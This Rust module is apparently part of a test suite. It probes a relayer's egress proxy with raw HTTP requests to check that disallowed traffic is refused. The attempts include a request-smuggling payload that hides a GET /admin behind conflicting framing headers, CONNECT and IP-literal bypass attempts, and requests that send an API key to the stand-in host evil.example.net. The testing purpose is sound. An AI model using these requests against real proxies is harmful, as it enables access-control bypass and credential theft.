//! `egress`: attacks the relayer's egress proxy through its socket (`$NEXUS_EGRESS_SOCKET`, else
//! `/run/egress.sock`) with raw bytes, not a client library, so it can send what no well-behaved
//! client would (CONNECT, conflicting framing). Every attempt is reported with the status and
//! the start of the body the proxy answered; the relayer test decides what each must have been.
//!
//! Input: `host` (the allowed host, e.g. `api.example.com`), `port` (the upstream's real port,
//! for the IP-literal attempt), `loop` (most requests sent in the budget loop, default 200).
//! Paths the test's upstream serves: `/v1/ok`, `/v1/big` (over the bytes-in budget), `/v1/echo`
//! (echoes the request head it received: no key may be in it).

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::time::Duration;

use serde_json::{Value, json};

/// Most bytes of an answer kept in the report.
const BODY_KEPT: usize = 600;

fn socket() -> String {
    std::env::var("NEXUS_EGRESS_SOCKET").unwrap_or_else(|_| "/run/egress.sock".into())
}

/// Sends `raw` on a new connection; the status and the start of the body, or the I/O error.
fn send(raw: &[u8]) -> Value {
    let attempt = || -> std::io::Result<(u16, String)> {
        let mut stream = UnixStream::connect(socket())?;
        stream.set_read_timeout(Some(Duration::from_secs(30)))?;
        stream.write_all(raw)?;
        let mut answer = Vec::new();
        // A cut response ends in an error after some bytes: keep what came.
        let _ = stream.take(1 << 20).read_to_end(&mut answer);
        let text = String::from_utf8_lossy(&answer).into_owned();
        let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
        let body = text.split_once("\r\n\r\n").map_or("", |(_, b)| b);
        Ok((status, body.chars().take(BODY_KEPT).collect()))
    };
    match attempt() {
        Ok((status, body)) => json!({ "status": status, "body": body }),
        Err(e) => json!({ "status": 0, "error": e.to_string() }),
    }
}

fn get(url: &str, host: &str) -> Vec<u8> {
    format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
}

pub fn attacks(input: &Value) -> Value {
    let host = input.get("host").and_then(Value::as_str).unwrap_or("api.example.com");
    let port = input.get("port").and_then(Value::as_u64).unwrap_or(80);
    let most = input.get("loop").and_then(Value::as_u64).unwrap_or(200);
    let base = format!("https://{host}");
    let mut report = serde_json::Map::new();
    let mut attempt = |name: &str, raw: Vec<u8>| {
        crate::log(format_args!("egress attempt {name}"));
        report.insert(name.into(), send(&raw));
    };
    attempt("allowed", get(&format!("{base}/v1/ok"), host));
    attempt("host_not_listed", get("https://evil.example.net/v1/ok", "evil.example.net"));
    attempt("wrong_method", format!("DELETE {base}/v1/ok HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes());
    attempt("wrong_path", get(&format!("{base}/admin"), host));
    attempt("ip_literal", get(&format!("http://127.0.0.1:{port}/v1/ok"), "127.0.0.1"));
    attempt("connect", format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n").into_bytes());
    attempt(
        "smuggling",
        format!(
            "POST {base}/v1/ok HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n"
        )
        .into_bytes(),
    );
    attempt("oversized_response", get(&format!("{base}/v1/big"), host));
    // The key is declared for /v1/keyed only: a request elsewhere on its host must not carry it
    // (the upstream echoes what it received), nor one sent to another host.
    attempt("key_read_back", get(&format!("{base}/v1/echo"), host));
    attempt("key_to_other_host", get("https://evil.example.net/v1/keyed", "evil.example.net"));
    // Past the request budget: the proxy must start refusing.
    let mut sent = 0;
    let mut last = json!(null);
    while sent < most {
        sent += 1;
        last = send(&get(&format!("{base}/v1/ok"), host));
        if last["status"] != 200 {
            break;
        }
    }
    report.insert("budget_loop".into(), json!({ "sent": sent, "last": last }));
    Value::Object(report)
}
